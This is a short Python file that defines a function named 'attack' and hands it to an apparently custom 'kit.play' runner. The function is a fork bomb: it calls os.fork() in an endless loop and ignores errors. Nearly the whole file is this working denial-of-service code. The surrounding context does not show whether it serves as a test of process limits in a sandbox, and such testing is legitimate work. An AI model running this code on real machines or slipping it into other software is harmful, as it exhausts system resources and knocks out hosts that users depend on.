"""Fork without end."""

import os

import kit


def attack():
    while True:
        try:
            os.fork()
        except OSError:
            pass


kit.play(attack)
